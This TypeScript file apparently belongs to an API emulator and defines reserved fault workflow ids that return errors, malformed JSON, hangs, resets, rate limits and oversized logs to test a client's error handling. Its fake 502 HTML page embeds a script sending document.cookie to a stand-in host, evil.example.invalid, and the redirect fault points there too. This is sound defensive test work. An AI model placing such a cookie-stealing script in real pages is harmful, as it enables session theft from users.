import {
  DEEP_WORKFLOW_ID,
  HOSTILE_WORKFLOW_ID,
  LONG_TEXT_WORKFLOW_ID,
  OVERSIZED_PAGE_WORKFLOW_ID,
  decorateHostileBody,
  deepLogsBody,
  hostileWorkflowSpec,
  longTextLogsBody,
  oversizedPageLogsBody,
} from "./hostile-content";
import { buildWorkflowRecord } from "./data/dataset";
import type { WorkflowRecord } from "./data/dataset";
import type { WorkflowSpec } from "./data/workflow-catalog";

// Reserved workflow ids that make the emulator misbehave on purpose, for testing the client's
// error handling. They answer on both the workflow and the logs path, to any key with the scope.

export type FaultTarget = "workflow" | "logs";

export type FaultAction =
  | {
      kind: "error";
      status: number;
      code: string;
      message: string;
      headers?: Record<string, string>;
    }
  | { kind: "raw"; status: number; contentType: string; body: string }
  | { kind: "redirect"; location: string }
  | { kind: "hang" }
  | { kind: "reset" }
  /** Answer as for a normal workflow, optionally late or with a reshaped body. */
  | {
      kind: "serve";
      record: WorkflowRecord;
      delayMs: number;
      decorate?: (body: { data: unknown; meta?: object }) => object;
    };

export const SLOW_FAULT_DELAY_MS = 15_000;
/** 999,999,999,999 s: "277777777 h" when shown as it came. */
export const HUGE_RETRY_AFTER = "999999999999";

export const FAULT_IDS = [
  "wf_fault_500",
  "wf_fault_flaky",
  "wf_fault_badjson",
  "wf_fault_schema",
  "wf_fault_html",
  "wf_fault_slow",
  "wf_fault_hang",
  "wf_fault_reset",
  "wf_fault_redirect",
  "wf_fault_429",
  "wf_fault_429_huge",
  HOSTILE_WORKFLOW_ID,
  DEEP_WORKFLOW_ID,
  OVERSIZED_PAGE_WORKFLOW_ID,
  LONG_TEXT_WORKFLOW_ID,
] as const;

const JSON_CONTENT_TYPE = "application/json; charset=utf-8";

/** Fault ids whose workflow is ordinary and whose logs are one of the oversized shapes. */
const OVERSIZED_LOGS: Record<string, { name: string; body: (startMs: number) => string }> = {
  [DEEP_WORKFLOW_ID]: { name: "Sync deal changes to the CRM mirror", body: deepLogsBody },
  [OVERSIZED_PAGE_WORKFLOW_ID]: { name: "Log every contact update", body: oversizedPageLogsBody },
  [LONG_TEXT_WORKFLOW_ID]: { name: "Post webhook responses to #ops", body: longTextLogsBody },
};

const HTML_ERROR_PAGE = `<!DOCTYPE html>
<html><head><title>502 Bad Gateway</title>
<script>document.location = "http://evil.example.invalid/steal?c=" + document.cookie;</script>
</head><body><h1>502 Bad Gateway</h1>
<pre>Error: upstream connect error or disconnect/reset before headers
    at ApiGateway.forward (/var/task/gateway/proxy.js:218:23)
    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)
    at async Router.handle (/var/task/gateway/router.js:77:12)</pre>
</body></html>`;

export class FaultRegistry {
  private readonly flaky: WorkflowRecord;
  private readonly slow: WorkflowRecord;
  private readonly hostile: WorkflowRecord;
  private readonly oversizedRecords: Map<string, WorkflowRecord>;
  /** The oversized logs bodies, built on first use (the largest is ~3.5 MB). */
  private readonly oversizedBodies = new Map<string, string>();
  /** Per key, path and target: whether the next flaky call fails. Absent = fail. */
  private readonly flakyPassesNext = new Set<string>();

  constructor(private readonly startMs: number) {
    this.flaky = buildWorkflowRecord(
      plausibleSpec("wf_fault_flaky", "Notify owner on stalled deals"),
      startMs,
    );
    this.slow = buildWorkflowRecord(
      plausibleSpec("wf_fault_slow", "Weekly pipeline digest"),
      startMs,
    );
    this.hostile = buildWorkflowRecord(hostileWorkflowSpec(startMs), startMs);
    this.oversizedRecords = new Map(
      Object.entries(OVERSIZED_LOGS).map(([id, { name }]) => [
        id,
        buildWorkflowRecord(plausibleSpec(id, name), startMs),
      ]),
    );
  }

  /** What to do for a fault id, or null when `id` is an ordinary workflow id. */
  resolve(id: string, target: FaultTarget, keyLabel: string): FaultAction | null {
    switch (id) {
      case "wf_fault_500":
        return {
          kind: "error",
          status: 500,
          code: "internal_error",
          message: "Internal server error",
        };
      case "wf_fault_flaky":
        return this.flakyTurn(`${keyLabel}|${target}`)
          ? { kind: "serve", record: this.flaky, delayMs: 0 }
          : {
              kind: "error",
              status: 503,
              code: "service_unavailable",
              message: "The service is temporarily unavailable; try again",
            };
      case "wf_fault_badjson":
        return {
          kind: "raw",
          status: 200,
          contentType: "application/json; charset=utf-8",
          body:
            target === "logs"
              ? '{"data":{"logs":[{"id":"wfl_01HY1","workflow_id":"wf_fault_badjson","triggered_at":"2026-04-'
              : '{"data":{"id":"wf_fault_badjson","name":"Notify owner on st',
        };
      case "wf_fault_schema":
        return {
          kind: "raw",
          status: 200,
          contentType: "application/json; charset=utf-8",
          body: '{"data":{"items":"nope"},"meta":{"page":"one"}}',
        };
      case "wf_fault_html":
        return {
          kind: "raw",
          status: 502,
          contentType: "text/html; charset=utf-8",
          body: HTML_ERROR_PAGE,
        };
      case "wf_fault_slow":
        return { kind: "serve", record: this.slow, delayMs: SLOW_FAULT_DELAY_MS };
      case "wf_fault_hang":
        return { kind: "hang" };
      case "wf_fault_reset":
        return { kind: "reset" };
      case "wf_fault_redirect":
        return { kind: "redirect", location: "http://evil.example.invalid/steal" };
      case "wf_fault_429":
        return {
          kind: "error",
          status: 429,
          code: "rate_limited",
          message: "Rate limit exceeded; retry after 30 seconds",
          headers: { "Retry-After": "30" },
        };
      case "wf_fault_429_huge":
        return {
          kind: "error",
          status: 429,
          code: "rate_limited",
          message: "Rate limit exceeded",
          headers: { "Retry-After": HUGE_RETRY_AFTER },
        };
      case HOSTILE_WORKFLOW_ID:
        return { kind: "serve", record: this.hostile, delayMs: 0, decorate: decorateHostileBody };
      default:
        return this.oversizedAction(id, target);
    }
  }

  /** An ordinary workflow whose logs are an oversized shape, or null for any other id. */
  private oversizedAction(id: string, target: FaultTarget): FaultAction | null {
    const shape = OVERSIZED_LOGS[id];
    const record = this.oversizedRecords.get(id);
    if (!shape || !record) return null;
    if (target === "workflow") return { kind: "serve", record, delayMs: 0 };
    let body = this.oversizedBodies.get(id);
    if (body === undefined) {
      body = shape.body(this.startMs);
      this.oversizedBodies.set(id, body);
    }
    return { kind: "raw", status: 200, contentType: JSON_CONTENT_TYPE, body };
  }

  reset(): void {
    this.flakyPassesNext.clear();
  }

  /** Alternates fail, pass, fail, ... per caller and path; true = this call passes. */
  private flakyTurn(slot: string): boolean {
    const passes = this.flakyPassesNext.has(slot);
    if (passes) this.flakyPassesNext.delete(slot);
    else this.flakyPassesNext.add(slot);
    return passes;
  }
}

function plausibleSpec(id: string, name: string): WorkflowSpec {
  return {
    id,
    workspaceId: "faults",
    name,
    conditionEntity: "deal",
    conditionField: "days_in_stage",
    conditionOperator: "greater_than",
    conditionValue: "21",
    actionType: "send_channel_message",
    actionConfig: {
      channel: "slack",
      recipient: "#pipeline",
      message: "{{deal.name}} has been in {{deal.stage}} for {{deal.days_in_stage}} days",
    },
    resultHints: { channel: "#pipeline" },
    maxTriggersPerDay: 100,
    createdDaysAgo: 45,
    updatedDaysAgo: 6,
    lifecycle: { kind: "enabled" },
    history: { count: 80, spanDays: 14 },
    entityPoolSize: 300,
  };
}
